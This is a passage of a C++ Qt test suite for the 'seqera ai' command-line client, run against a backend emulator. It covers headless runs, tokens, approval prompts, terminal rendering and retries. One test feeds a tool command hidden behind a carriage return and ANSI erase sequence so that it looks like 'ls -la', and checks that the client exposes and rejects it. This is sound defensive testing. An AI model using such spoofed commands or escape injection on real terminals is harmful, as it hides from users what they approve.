// `seqera ai` against tests/ai/ai-backend-emulator.mjs (a fake of the Seqera AI backend,
// which cannot run here). Headless runs go through cli::run in this process (injected
// streams and environment, no terminal: as the binary with pipes); what needs the program
// itself runs the binary: the conversation on a pty, Ctrl-C as a signal, the wire headers
// with the program's version, and the benchmark.
#include "clirun.h"
#include "testsupport.h"
#include "translations.h"

#include <QDir>
#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include <csignal>
#include <poll.h>
#include <pty.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {
const QString kToken = QStringLiteral("cli-token-abcd");
const QString kOtherToken = QStringLiteral("env-token-wxyz");
const QString kAnswer = QStringLiteral("Hello from the Seqera AI emulator. You said: ");

using Result = testsupport::CliResult;
} // namespace

class TestAiCommand : public QObject
{
    Q_OBJECT
private slots:
    void initTestCase();
    void init();

    void headless_data();
    void headless();
    void tokenSources_data();
    void tokenSources();
    void refusedTokenNamesItsSource_data();
    void refusedTokenNamesItsSource();
    void headlessRefusesToolsTheModeDoesNotAllow();
    void continueUsesTheLastSessionOfTheDirectory();
    void interactiveConversation();
    void spoofedCommandIsShownAsItWouldRun();
    void markdownOnATerminal_data();
    void markdownOnATerminal();
    void slashCommandsNeverReachTheBackend();
    void clearEndsTheSession();
    void skillsAreListedAndUsed();
    void shiftTabTogglesPlanMode();
    void lineEditingAndHistory();
    void resumeShowsTheLastExchanges();
    void continueOnATerminalOffersAChoice();
    void headlessInterruptCancelsExpiresAndSaysHowToResume();
    void headlessRunEndsWithExpire();
    void transientFailureIsRetriedWithTheSameRunId();
    void wireHeadersAndCaller();
    void subAgentWritesJsonLines();
    void eventsPathIsPrivate();
    void headlessContinueWithSeveralPicksTheMostRecent();
    void subAgentRecordsEachOfSeveralToolRequestsOnce();
    void subAgentRecordsCompactingAndInterruption();
    void eventsPathRecordsToolsAndTokens();
    void eventsPathToAFifoIsRefusedAtOnce();
    void hostileSessionIdsAreRefused_data();
    void hostileSessionIdsAreRefused();
    void sessionOptionIsChecked();
    void keepAlivesOnlyEndAHeadlessRun();
    void usageErrors_data();
    void usageErrors();
    void benchmark();

private:
    // `seqera ai ARGS` in this process, working directory the scratch home.
    Result run(const QStringList &args, const QMap<QString, QString> &env = {},
        const QByteArray &stdinData = {});
    // The same through the binary.
    Result runBinary(const QStringList &args, const QMap<QString, QString> &env = {},
        const QByteArray &stdinData = {});
    QJsonArray recordedRequests() const { return m_emulator.requests(); }
    QProcessEnvironment environment(const QMap<QString, QString> &env = {}) const;
    void post(const QString &path, const QJsonObject &body) const { m_emulator.post(path, body); }

    const testsupport::AiEmulator m_emulator { { kToken, kOtherToken } };
    QTemporaryDir m_home;
};

void TestAiCommand::initTestCase()
{
    // What main.cpp sets up before cli::run, for the runs in this process.
    QCoreApplication::setApplicationName(QStringLiteral("seqera"));
    seqera::installTranslators(*QCoreApplication::instance());
    QProcess probe;
    probe.start(QStringLiteral(SEQERA_BIN), { QStringLiteral("ai"), QStringLiteral("--help") });
    // A broken `ai` command is a failure of this suite, never a reason to skip it.
    QVERIFY(probe.waitForFinished(10000));
    QCOMPARE(probe.exitStatus(), QProcess::NormalExit);
    QVERIFY2(probe.exitCode() == 0, probe.readAllStandardError().constData());
    QVERIFY(probe.readAllStandardOutput().contains("--approval-mode"));
    QVERIFY(m_emulator.isRunning());
}

void TestAiCommand::init()
{
    m_emulator.reset();
}

QProcessEnvironment TestAiCommand::environment(const QMap<QString, QString> &env) const
{
    QProcessEnvironment e = QProcessEnvironment::systemEnvironment();
    for (const QString &name : e.keys())
        if (name.startsWith("SEQERA_") || name.startsWith("TOWER_") || name.startsWith("XDG_"))
            e.remove(name);
    e.insert("SEQERA_AI_BACKEND_URL", m_emulator.base());
    e.insert("SEQERA_NO_KEYCHAIN", "true");
    e.insert("XDG_CONFIG_HOME", m_home.filePath("config"));
    e.insert("XDG_STATE_HOME", m_home.filePath("state"));
    e.insert("HOME", m_home.path());
    for (auto it = env.begin(); it != env.end(); ++it)
        e.insert(it.key(), it.value());
    return e;
}

Result TestAiCommand::run(
    const QStringList &args, const QMap<QString, QString> &env, const QByteArray &stdinData)
{
    const QString before = QDir::currentPath();
    QDir::setCurrent(m_home.path());
    const Result r = testsupport::runCli(
        QStringList { QStringLiteral("ai") } + args, environment(env), stdinData);
    QDir::setCurrent(before);
    return r;
}

Result TestAiCommand::runBinary(
    const QStringList &args, const QMap<QString, QString> &env, const QByteArray &stdinData)
{
    QProcess process;
    process.setProcessEnvironment(environment(env));
    process.setWorkingDirectory(m_home.path());
    process.start(QStringLiteral(SEQERA_BIN), QStringList { QStringLiteral("ai") } + args);
    process.write(stdinData);
    process.closeWriteChannel();
    Result r;
    if (!process.waitForFinished(60000)) {
        process.kill();
        process.waitForFinished();
        r.err = QStringLiteral("timed out");
        return r;
    }
    r.exitCode = process.exitStatus() == QProcess::NormalExit ? process.exitCode() : -1;
    r.out = QString::fromUtf8(process.readAllStandardOutput());
    r.err = QString::fromUtf8(process.readAllStandardError());
    return r;
}

namespace {
// A terminal for the interactive tests: seqera runs on the slave side of a pty.
class Terminal
{
public:
    Terminal(const QStringList &args, const QProcessEnvironment &env, const QString &dir)
    {
        QList<QByteArray> storage { QByteArray(SEQERA_BIN), QByteArray("ai") };
        for (const QString &a : args)
            storage << a.toUtf8();
        QList<QByteArray> envStorage;
        for (const QString &kv : env.toStringList())
            envStorage << kv.toUtf8();
        std::vector<char *> argv, envp;
        for (QByteArray &a : storage)
            argv.push_back(a.data());
        argv.push_back(nullptr);
        for (QByteArray &a : envStorage)
            envp.push_back(a.data());
        envp.push_back(nullptr);
        const QByteArray cwd = dir.toUtf8();
        m_pid = forkpty(&m_fd, nullptr, nullptr, nullptr);
        if (m_pid == 0) {
            if (::chdir(cwd.constData()) != 0)
                _exit(127);
            ::execve(argv[0], argv.data(), envp.data());
            _exit(127);
        }
    }
    ~Terminal()
    {
        if (m_pid > 0 && !m_exited) {
            ::kill(m_pid, SIGKILL);
            ::waitpid(m_pid, nullptr, 0);
        }
        if (m_fd >= 0)
            ::close(m_fd);
    }
    bool started() const { return m_pid > 0; }
    void type(const QByteArray &text)
    {
        QVERIFY(::write(m_fd, text.constData(), text.size()) == text.size());
    }
    void interrupt() { ::kill(m_pid, SIGINT); }

    // Waits until `text` appears after everything matched so far. The wait is long because
    // it only runs out when the test fails anyway: CI once saw a child print nothing for
    // 10 s while the machine was busy (the Debian 12 stage, right after the build).
    bool expect(const QByteArray &text, int timeoutMs = 30000)
    {
        QElapsedTimer timer;
        timer.start();
        while (timer.elapsed() < timeoutMs) {
            const qsizetype at = m_output.indexOf(text, m_matched);
            if (at >= 0) {
                m_matched = at + text.size();
                return true;
            }
            pollfd p { m_fd, POLLIN, 0 };
            if (::poll(&p, 1, 50) > 0) {
                char buffer[4096];
                const ssize_t n = ::read(m_fd, buffer, sizeof buffer);
                if (n <= 0)
                    return missed(text, timer.elapsed());
                m_output.append(buffer, n);
            }
        }
        return missed(text, timer.elapsed());
    }
    int waitForExit(int timeoutMs = 30000)
    {
        QElapsedTimer timer;
        timer.start();
        int status = 0;
        while (timer.elapsed() < timeoutMs) {
            expect("\x01never", 20); // keep draining the pty
            if (m_exited)
                return m_exitCode;
            if (::waitpid(m_pid, &status, WNOHANG) == m_pid) {
                m_exited = true;
                m_exitCode = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
                return m_exitCode;
            }
        }
        return -2;
    }
    QByteArray output() const { return m_output; }

private:
    // Says why an expected text did not come: still running, or how the child ended.
    bool missed(const QByteArray &text, qint64 elapsedMs)
    {
        if (text.startsWith('\x01'))
            return false; // the drain of waitForExit, not an expectation
        int status = 0;
        QByteArray state = "still running";
        if (!m_exited && ::waitpid(m_pid, &status, WNOHANG) == m_pid) {
            m_exited = true;
            m_exitCode = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
            state = WIFSIGNALED(status) ? "killed by signal " + QByteArray::number(WTERMSIG(status))
                                        : "exited with " + QByteArray::number(WEXITSTATUS(status));
        } else if (m_exited) {
            state = "exited";
        }
        qWarning("expected \"%s\" after %lld ms: seqera is %s", text.constData(),
            static_cast<long long>(elapsedMs), state.constData());
        return false;
    }

    int m_fd = -1;
    pid_t m_pid = -1;
    bool m_exited = false;
    int m_exitCode = -1;
    QByteArray m_output;
    qsizetype m_matched = 0;
};
} // namespace

void TestAiCommand::headless_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QString>("out");
    QTest::addColumn<QString>("errContains");

    QTest::newRow("answer streams to stdout with a final newline")
        << QStringList { "--headless", "--token", kToken, "hello" } << 0 << kAnswer + "hello\n"
        << "";
    QTest::newRow("no terminal means headless")
        << QStringList { "--token", kToken, "what", "is", "this" } << 0
        << kAnswer + "what is this\n"
        << "";
    QTest::newRow("split frames") << QStringList { "--token", kToken, "split-frames" } << 0
                                  << kAnswer + "split-frames\n"
                                  << "";
    QTest::newRow("dropped stream: every word once")
        << QStringList { "--token", kToken, "drop-stream" } << 0 << kAnswer + "drop-stream\n"
        << "";
    QTest::newRow("reasoning stays hidden without the flag")
        << QStringList { "--token", kToken, "reasoning" } << 0 << kAnswer + "reasoning\n"
        << "";
    QTest::newRow("reasoning on stderr with --show-thinking")
        << QStringList { "--token", kToken, "--show-thinking", "reasoning" } << 0
        << kAnswer + "reasoning\n"
        << "Thinking about the question.";
    QTest::newRow("read-only tool runs; activity on stderr with --show-tools")
        << QStringList { "--token", kToken, "--show-tools", "tool-call" } << 0
        << "Let me check.The tool printed: emulator-tool-ok (exit code 0)\n"
        << "execute_bash_local: echo emulator-tool-ok";
    QTest::newRow("tool results on stderr with --show-tool-results")
        << QStringList { "--token", kToken, "--show-tool-results", "tool-call" } << 0
        << "Let me check.The tool printed: emulator-tool-ok (exit code 0)\n"
        << "[tool result] emulator-tool-ok";
    QTest::newRow("usage limit: the backend's message, exit 1")
        << QStringList { "--token", kToken, "usage-limit" } << 1 << ""
        << "You have reached your usage limit";
    QTest::newRow("error event: exit 1")
        << QStringList { "--token", kToken, "error-event" } << 1 << "Partial\n"
        << "overloaded";
    QTest::newRow("server error: exit 3")
        << QStringList { "--token", kToken, "server-error" } << 3 << ""
        << "HTTP 500";
}

void TestAiCommand::headless()
{
    QFETCH(QStringList, args);
    QFETCH(int, exitCode);
    QFETCH(QString, out);
    QFETCH(QString, errContains);

    const Result r = run(args);
    QCOMPARE(r.out, out);
    QVERIFY2(r.err.contains(errContains), qPrintable(r.err));
    if (errContains.isEmpty())
        QCOMPARE(r.err, QString());
    QCOMPARE(r.exitCode, exitCode);
}

void TestAiCommand::tokenSources_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("variable");
    QTest::addColumn<QByteArray>("stdinData");
    QTest::addColumn<QString>("expectedLast4");

    QTest::newRow("--token") << QStringList { "--token", kToken, "hi" } << "" << QByteArray()
                             << "abcd";
    QTest::newRow("--token - reads stdin")
        << QStringList { "--token", "-", "hi" } << "" << (kToken + "\n").toUtf8() << "abcd";
    QTest::newRow("TOWER_ACCESS_TOKEN")
        << QStringList { "hi" } << "TOWER_ACCESS_TOKEN" << QByteArray() << "wxyz";
    QTest::newRow("SEQERA_ACCESS_TOKEN")
        << QStringList { "hi" } << "SEQERA_ACCESS_TOKEN" << QByteArray() << "wxyz";
    QTest::newRow("--token wins over the environment") << QStringList { "--token", kToken,
        "hi" } << "TOWER_ACCESS_TOKEN" << QByteArray() << "abcd";
}

void TestAiCommand::tokenSources()
{
    QFETCH(QStringList, args);
    QFETCH(QString, variable);
    QFETCH(QByteArray, stdinData);
    QFETCH(QString, expectedLast4);

    QMap<QString, QString> env;
    if (!variable.isEmpty())
        env.insert(variable, kOtherToken);
    const Result r = run(args, env, stdinData);
    QVERIFY2(r.exitCode == 0, qPrintable(r.err));
    const QJsonArray requests = recordedRequests();
    QVERIFY(requests.size() >= 3);
    for (const QJsonValue &request : requests)
        QCOMPARE(request.toObject().value("auth").toString(), expectedLast4);
}

void TestAiCommand::refusedTokenNamesItsSource_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QString>("variable");
    QTest::addColumn<QString>("named");
    QTest::newRow("--token") << QStringList { "--token", "bad-token-0000", "hi" } << ""
                             << "--token";
    QTest::newRow("TOWER_ACCESS_TOKEN") << QStringList { "hi" } << "TOWER_ACCESS_TOKEN"
                                        << "TOWER_ACCESS_TOKEN";
    QTest::newRow("SEQERA_TOKEN") << QStringList { "hi" } << "SEQERA_TOKEN"
                                  << "SEQERA_TOKEN";
}

void TestAiCommand::refusedTokenNamesItsSource()
{
    QFETCH(QStringList, args);
    QFETCH(QString, variable);
    QFETCH(QString, named);
    QMap<QString, QString> env;
    if (!variable.isEmpty())
        env.insert(variable, "bad-token-0000");
    const Result r = run(args, env);
    QCOMPARE(r.exitCode, 1);
    QVERIFY2(r.err.contains(named), qPrintable(r.err));
    QVERIFY2(!r.err.contains("bad-token-0000"), "a token must never be printed");
}

void TestAiCommand::headlessRefusesToolsTheModeDoesNotAllow()
{
    post("/__test/script",
        { { "scenario", "tool-call" },
            { "args", QJsonObject { { "command", "touch refused.txt" } } } });
    const Result r = run({ "--token", kToken, "--approval-mode", "basic", "tool-call" });
    QCOMPARE(r.exitCode, 0);
    QCOMPARE(r.out, QStringLiteral("Let me check.The tool printed:  (exit code 1)\n"));
    QVERIFY(!QFile::exists(m_home.filePath("refused.txt")));
    bool reported = false;
    for (const QJsonValue &request : recordedRequests()) {
        const QJsonObject o = request.toObject();
        if (o.value("path").toString().endsWith("/tool-results")) {
            const QJsonObject result = o.value("body").toObject().value("result").toObject();
            QCOMPARE(result.value("exit_code").toInt(), 1);
            reported = result.value("stderr").toString().contains("headless");
        }
    }
    QVERIFY(reported);
}

void TestAiCommand::continueUsesTheLastSessionOfTheDirectory()
{
    QVERIFY(run({ "--token", kToken, "first" }).exitCode == 0);
    const Result r = run({ "--token", kToken, "-c", "second" });
    QCOMPARE(r.exitCode, 0);
    QCOMPARE(r.out, kAnswer + "second\n");
    QString firstSession, secondSession;
    int creates = 0;
    for (const QJsonValue &request : recordedRequests()) {
        const QJsonObject o = request.toObject();
        const QString path = o.value("path").toString();
        creates += path == "/v1/cli/sessions" && o.value("method").toString() == "POST";
        if (path.endsWith("/messages")) {
            (firstSession.isEmpty() ? firstSession : secondSession) = path.section('/', 4, 4);
        }
    }
    QCOMPARE(creates, 1);
    QCOMPARE(secondSession, firstSession);
}

void TestAiCommand::interactiveConversation()
{
    Terminal terminal({ "--approval-mode", "default" },
        environment({ { "SEQERA_ACCESS_TOKEN", kToken } }), m_home.path());
    QVERIFY(terminal.started());
    auto expect
        = [&](const char *text) { QVERIFY2(terminal.expect(text), terminal.output().constData()); };
    expect("> ");
    terminal.type("hello\n");
    expect("You said: hello");
    expect("> ");

    // A usage limit ends the answer, not the conversation.
    terminal.type("usage-limit\n");
    expect("You have reached your usage limit");
    expect("> ");

    // Ctrl-C stops the answer, not the program.
    terminal.type("slow\n");
    expect("2 ");
    terminal.interrupt();
    expect("cancelled");
    expect("> ");

    // A command the mode does not allow is asked about: approve, then reject.
    post("/__test/script",
        { { "scenario", "tool-call" },
            { "args", QJsonObject { { "command", "printf approved-run" } } } });
    terminal.type("tool-call\n");
    expect("Choice [1/");
    terminal.type("1\n");
    expect("approved-run (exit code 0)");
    expect("> ");
    post("/__test/script",
        { { "scenario", "tool-call" },
            { "args", QJsonObject { { "command", "sh -c 'touch rejected.txt'" } } } });
    terminal.type("tool-call\n");
    expect("Choice [1/");
    terminal.type("3\n");
    expect("Rejected.");
    expect("(exit code 1)");
    expect("> ");
    QVERIFY(!QFile::exists(m_home.filePath("rejected.txt")));

    terminal.type("\x04"); // Ctrl-D leaves
    QCOMPARE(terminal.waitForExit(), 0);

    int cancels = 0;
    bool expired = false;
    for (const QJsonValue &request : recordedRequests()) {
        const QJsonObject o = request.toObject();
        cancels += o.value("body").toObject().value("type").toString() == "cancel";
        expired |= o.value("path").toString().endsWith("/expire");
        if (o.value("body").toObject().value("type").toString() == "user_message")
            QCOMPARE(o.value("body").toObject().value("interaction_mode").toString(),
                QStringLiteral("interactive"));
    }
    QCOMPARE(cancels, 1);
    QVERIFY(expired);
}

void TestAiCommand::spoofedCommandIsShownAsItWouldRun()
{
    // The backend sends a command whose CR and ANSI sequences would paint "ls -la" over the
    // real one; the prompt must show every character.
    Terminal terminal({ "--approval-mode", "basic" },
        environment({ { "SEQERA_ACCESS_TOKEN", kToken } }), m_home.path());
    QVERIFY(terminal.started());
    auto expect
        = [&](const char *text) { QVERIFY2(terminal.expect(text), terminal.output().constData()); };
    expect("> ");
    post("/__test/script",
        { { "scenario", "tool-call" },
            { "args", QJsonObject { { "command", "touch spoofed.txt\r\x1b[2Kls -la" } } } });
    terminal.type("tool-call\n");
    expect("touch spoofed.txt^M^[[2Kls -la");
    expect("Choice [1/");
    QVERIFY(!terminal.output().contains("spoofed.txt\r"));
    QVERIFY(!terminal.output().contains("\x1b[2K"));
    terminal.type("3\n");
    expect("Rejected.");
    expect("> ");
    QVERIFY(!QFile::exists(m_home.filePath("spoofed.txt")));
    terminal.type("/exit\n");
    QCOMPARE(terminal.waitForExit(), 0);
}

void TestAiCommand::markdownOnATerminal_data()
{
    QTest::addColumn<bool>("noColor");
    QTest::newRow("colour") << false;
    QTest::newRow("NO_COLOR") << true;
}

void TestAiCommand::markdownOnATerminal()
{
    QFETCH(bool, noColor);
    QMap<QString, QString> env { { "SEQERA_ACCESS_TOKEN", kToken }, { "TERM", "xterm" } };
    if (noColor)
        env.insert("NO_COLOR", "1");
    Terminal terminal({}, environment(env), m_home.path());
    QVERIFY(terminal.started());
    auto expect = [&](const QByteArray &text) {
        QVERIFY2(terminal.expect(text), terminal.output().constData());
    };
    expect("> ");
    post("/__test/script",
        { { "scenario", "text" }, { "echo", false },
            { "text",
                QJsonArray { "# Result\n", "Use **nf-core** ", "and `ls\x1b[31m`.\n",
                    "| Process | CPUs |\n|---|---|\n", "| FASTQC | 2 |\n| SALMON_QUANT | 12 |\n",
                    "- done" } } });
    terminal.type("markdown please\n");
    expect("done");
    expect("> ");
    const QByteArray out = terminal.output();
    // A model's escape sequence is shown, not obeyed, in both cases.
    QVERIFY2(out.contains("ls^[[31m"), out.constData());
    QVERIFY2(out.contains("SALMON_QUANT  12"), out.constData());
    if (noColor)
        QVERIFY(out.contains("Process       CPUs"));
    QVERIFY(out.contains("\xe2\x80\xa2 done"));
    QVERIFY(!out.contains("**nf-core**"));
    QVERIFY(!out.contains("# Result"));
    if (noColor) {
        QVERIFY2(!out.contains("\x1b["), out.constData());
    } else {
        QVERIFY(out.contains("\x1b[1;4mResult\x1b[0m"));
        QVERIFY(out.contains("\x1b[1mnf-core\x1b[0m"));
    }
    terminal.type("/exit\n");
    QCOMPARE(terminal.waitForExit(), 0);
}

void TestAiCommand::slashCommandsNeverReachTheBackend()
{
    Terminal terminal({}, environment({ { "SEQERA_ACCESS_TOKEN", kToken } }), m_home.path());
    QVERIFY(terminal.started());
    auto expect
        = [&](const char *text) { QVERIFY2(terminal.expect(text), terminal.output().constData()); };
    expect("> ");
    terminal.type("/help\n");
    expect("/approval");
    expect("> ");
    terminal.type("/session\n");
    expect("No session yet");
    terminal.type("/status\n");
    expect("Approval mode: default");
    terminal.type("/approval full\n");
    expect("Approval mode: full");
    terminal.type("/thinking\n");
    expect("now shown");
    terminal.type("/credits\n");
    expect("Seqera AI credits");
    expect("Limit  100");
    expect("Used   12");
    expect("Left   88 (12% used)");
    terminal.type("/frobnicate the thing\n");
    expect("unknown command /frobnicate");
    expect("> ");
    terminal.type("/q\n");
    QCOMPARE(terminal.waitForExit(), 0);
    // Nothing was asked, so no session was created (and none expired); besides the skills
    // asked for once at the start of a conversation, /credits is the one call.
    QStringList paths = m_emulator.paths();
    QCOMPARE(paths.removeAll("GET skills"), 1);
    QCOMPARE(paths, QStringList { "GET credits" });
}

void TestAiCommand::lineEditingAndHistory()
{
    Terminal terminal(
        {}, environment({ { "SEQERA_ACCESS_TOKEN", kToken }, { "TERM", "xterm" } }), m_home.path());
    QVERIFY(terminal.started());
    auto expect
        = [&](const char *text) { QVERIFY2(terminal.expect(text), terminal.output().constData()); };
    expect("> ");
    // "wrld", then Ctrl-A (start of line), "say ", End, Left x3, "o": "say world".
    terminal.type("wrld\x01say \x05\x1b[D\x1b[D\x1b[Do\r");
    expect("You said: say world");
    expect("> ");
    // Up arrow brings the last question back.
    terminal.type("\x1b[A\r");
    expect("You said: say world");
    expect("> ");
    // Ctrl-C typed on the terminal at the prompt: a hint, then a second one leaves.
    terminal.type("\x03");
    expect("Press Ctrl-C again");
    expect("> ");
    QTest::qWait(200); // a second Ctrl-C while the first is still handled is the hard way out
    terminal.type("\x03");
    QCOMPARE(terminal.waitForExit(), 0);
    QCOMPARE(m_emulator.paths().count("POST messages"), 2);
    QCOMPARE(m_emulator.paths().last(), QStringLiteral("POST expire"));
}

void TestAiCommand::resumeShowsTheLastExchanges()
{
    QTemporaryDir project;
    {
        QProcess p;
        p.setProcessEnvironment(environment({ { "TOWER_ACCESS_TOKEN", kToken } }));
        p.setWorkingDirectory(project.path());
        p.start(QStringLiteral(SEQERA_BIN), { "ai", "what is nf-core?" });
        p.closeWriteChannel();
        QVERIFY(p.waitForFinished(30000));
        QCOMPARE(p.exitCode(), 0);
    }
    Terminal terminal({ "-c" }, environment({ { "SEQERA_ACCESS_TOKEN", kToken } }), project.path());
    QVERIFY(terminal.started());
    auto expect
        = [&](const char *text) { QVERIFY2(terminal.expect(text), terminal.output().constData()); };
    expect("Resumed conversation");
    expect("what is nf-core?");
    expect("You said: what is nf-core?");
    expect("> ");
    terminal.type("/exit\r");
    QCOMPARE(terminal.waitForExit(), 0);
    const QStringList paths = m_emulator.paths();
    QVERIFY2(paths.contains("GET messages"), qPrintable(paths.join(", ")));
    for (const QJsonValue &v : recordedRequests())
        if (v.toObject().value("method").toString() == "GET"
            && v.toObject().value("path").toString().endsWith("/messages"))
            QCOMPARE(v.toObject().value("clientVersion").toString(), QString()); // history: none
}

void TestAiCommand::continueOnATerminalOffersAChoice()
{
    QTemporaryDir project;
    for (const char *question : { "older question", "newer question" }) {
        QProcess p;
        p.setProcessEnvironment(environment({ { "TOWER_ACCESS_TOKEN", kToken } }));
        p.setWorkingDirectory(project.path());
        p.start(QStringLiteral(SEQERA_BIN), { "ai", question });
        p.closeWriteChannel();
        QVERIFY(p.waitForFinished(30000));
        QCOMPARE(p.exitCode(), 0);
        QTest::qWait(20);
    }
    Terminal terminal({ "-c" }, environment({ { "SEQERA_ACCESS_TOKEN", kToken } }), project.path());
    QVERIFY(terminal.started());
    auto expect
        = [&](const char *text) { QVERIFY2(terminal.expect(text), terminal.output().constData()); };
    expect("1) newer question");
    expect("2) older question");
    expect("Which one [1-2");
    terminal.type("2\r");
    expect("Resumed conversation");
    expect("older question");
    expect("> ");
    terminal.type("/exit\r");
    QCOMPARE(terminal.waitForExit(), 0);
}

void TestAiCommand::skillsAreListedAndUsed()
{
    // A project skill beside the backend's (the emulator offers nf-test, a hostile name that
    // must not be offered, and local-one, which the project's own skill shadows).
    QDir project(m_home.path());
    QVERIFY(project.mkpath(".seqera/skills/local-one"));
    QFile skill(project.filePath(".seqera/skills/local-one/SKILL.md"));
    QVERIFY(skill.open(QIODevice::WriteOnly));
    skill.write("---\nname: local-one\ndescription: The project's own skill\n---\nDo it.\n");
    skill.close();
    Terminal terminal({}, environment({ { "SEQERA_ACCESS_TOKEN", kToken } }), m_home.path());
    QVERIFY(terminal.started());
    auto expect
        = [&](const char *text) { QVERIFY2(terminal.expect(text), terminal.output().constData()); };
    expect("> ");
    QTRY_VERIFY(m_emulator.paths().contains("GET skills"));
    QTest::qWait(200);
    terminal.type("/skills\n");
    expect("/local-one  The project's own skill");
    expect("/nf-test  Write nf-test tests for a module");
    expect("> ");
    QVERIFY(!terminal.output().contains("bad name"));
    terminal.type("/nf-test tests for FASTQC\n");
    expect("You said: Load the \"nf-test\" skill and use it to help with: tests for FASTQC");
    expect("> ");
    terminal.type("/q\n");
    QCOMPARE(terminal.waitForExit(), 0);
    QDir(project.filePath(".seqera")).removeRecursively();
}

void TestAiCommand::shiftTabTogglesPlanMode()
{
    // Shift+Tab (ESC [ Z) at the prompt switches plan mode, as /plan does: the prompt says
    // so at once, and the next message goes with mode "plan"; again, and it is off.
    Terminal terminal({}, environment({ { "SEQERA_ACCESS_TOKEN", kToken } }), m_home.path());
    QVERIFY(terminal.started());
    auto expect
        = [&](const char *text) { QVERIFY2(terminal.expect(text), terminal.output().constData()); };
    expect("> ");
    QTest::qWait(200);
    terminal.type("\x1b[Z");
    expect("plan> ");
    terminal.type("first\n");
    expect("You said: first");
    expect("plan> ");
    terminal.type("\x1b[Z");
    QTest::qWait(300);
    terminal.type("second\n");
    expect("You said: second");
    terminal.type("/status\n");
    expect("Plan mode: off");
    terminal.type("/q\n");
    QCOMPARE(terminal.waitForExit(), 0);
    QStringList modes;
    for (const QJsonValue &request : recordedRequests()) {
        const QJsonObject o = request.toObject();
        if (o.value("path").toString().endsWith("/messages"))
            modes << o.value("body").toObject().value("mode").toString(QStringLiteral("-"));
    }
    QCOMPARE(modes.size(), 2);
    QCOMPARE(modes.first(), QStringLiteral("plan"));
    QVERIFY2(modes.last() != QLatin1String("plan"), qPrintable(modes.join(',')));
}

void TestAiCommand::clearEndsTheSession()
{
    Terminal terminal({}, environment({ { "SEQERA_ACCESS_TOKEN", kToken } }), m_home.path());
    QVERIFY(terminal.started());
    auto expect
        = [&](const char *text) { QVERIFY2(terminal.expect(text), terminal.output().constData()); };
    expect("> ");
    terminal.type("one\n");
    expect("You said: one");
    expect("> ");
    terminal.type("/clear\n");
    expect("next message starts a new session");
    expect("> ");
    terminal.type("two\n");
    expect("You said: two");
    expect("> ");
    terminal.type("");
    QCOMPARE(terminal.waitForExit(), 0);
    QStringList paths = m_emulator.paths();
    QCOMPARE(paths.removeAll("GET skills"), 1); // once, at the start of the conversation
    QCOMPARE(paths,
        QStringList({ "POST sessions", "POST messages", "GET events", "POST expire",
            "POST sessions", "POST messages", "GET events", "POST expire" }));
}

void TestAiCommand::headlessInterruptCancelsExpiresAndSaysHowToResume()
{
    QProcess process;
    process.setProcessEnvironment(environment({ { "TOWER_ACCESS_TOKEN", kToken } }));
    process.setWorkingDirectory(m_home.path());
    process.start(QStringLiteral(SEQERA_BIN), { "ai", "--headless", "slow" });
    QVERIFY(process.waitForStarted());
    QByteArray out;
    QTRY_VERIFY_WITH_TIMEOUT((out += process.readAllStandardOutput()).contains("3 "), 10000);
    QElapsedTimer timer;
    timer.start();
    ::kill(process.processId(), SIGINT);
    QVERIFY(process.waitForFinished(10000));
    QVERIFY(timer.elapsed() < 5000);
    QCOMPARE(process.exitCode(), 130);
    const QString err = QString::fromUtf8(process.readAllStandardError());
    QVERIFY2(err.contains(QRegularExpression("Session: sess-\\d+-\\w+")), qPrintable(err));
    QVERIFY2(err.contains("seqera ai -s sess-"), qPrintable(err));
    const QStringList paths = m_emulator.paths();
    QVERIFY2(paths.count("POST messages") == 2, qPrintable(paths.join(", "))); // message, cancel
    QCOMPARE(paths.last(), QStringLiteral("POST expire"));
}

void TestAiCommand::headlessRunEndsWithExpire()
{
    QCOMPARE(run({ "--token", kToken, "hello" }).exitCode, 0);
    QCOMPARE(m_emulator.paths(),
        QStringList({ "POST sessions", "POST messages", "GET events", "POST expire" }));
    m_emulator.reset();
    QCOMPARE(run({ "--token", kToken, "error-event" }).exitCode, 1);
    QCOMPARE(m_emulator.paths().last(), QStringLiteral("POST expire"));
}

void TestAiCommand::transientFailureIsRetriedWithTheSameRunId()
{
    post("/__test/fail", { { "match", "/messages" }, { "status", 502 }, { "count", 1 } });
    post("/__test/fail", { { "match", "/v1/cli/sessions" }, { "status", 503 }, { "count", 1 } });
    const Result r = run({ "--token", kToken, "hello" });
    QCOMPARE(r.exitCode, 0);
    QCOMPARE(r.out, kAnswer + "hello\n");
    QStringList runIds;
    int creates = 0;
    for (const QJsonValue &v : recordedRequests()) {
        const QJsonObject o = v.toObject();
        creates += o.value("path").toString() == "/v1/cli/sessions";
        if (o.value("path").toString().endsWith("/messages"))
            runIds << o.value("body").toObject().value("run_id").toString();
    }
    QCOMPARE(creates, 2);
    QCOMPARE(runIds.size(), 2);
    QCOMPARE(runIds.at(0), runIds.at(1));
}

void TestAiCommand::wireHeadersAndCaller()
{
    QProcess version;
    version.start(QStringLiteral(SEQERA_BIN), { "--version" });
    QVERIFY(version.waitForFinished());
    const QString projectVersion
        = QString::fromUtf8(version.readAllStandardOutput()).trimmed().section(' ', -1);
    QVERIFY(!projectVersion.isEmpty());

    QCOMPARE(runBinary({ "--token", kToken, "hello" }, { { "CLAUDE_CODE", "1" } }).exitCode, 0);
    for (const QJsonValue &v : recordedRequests()) {
        const QJsonObject o = v.toObject();
        const QString path = o.value("path").toString();
        const bool versioned = !path.endsWith("/expire");
        // The protocol level implemented, not our own version (ai-protocol §2)...
        QCOMPARE(
            o.value("clientVersion").toString(), versioned ? QStringLiteral("1.12.0") : QString());
        // ...which the User-Agent carries, with our name.
        QVERIFY(
            o.value("userAgent").toString().startsWith("seqera-cli/" + projectVersion + " Qt/"));
        if (path.contains("/events"))
            QCOMPARE(o.value("explicitCancel").toString(), QStringLiteral("1"));
        if (path.endsWith("/messages"))
            QCOMPARE(o.value("body").toObject().value("caller").toString(),
                QStringLiteral("claude_code"));
    }
    m_emulator.reset();
    QCOMPARE(run({ "--token", kToken, "hello" }).exitCode, 0);
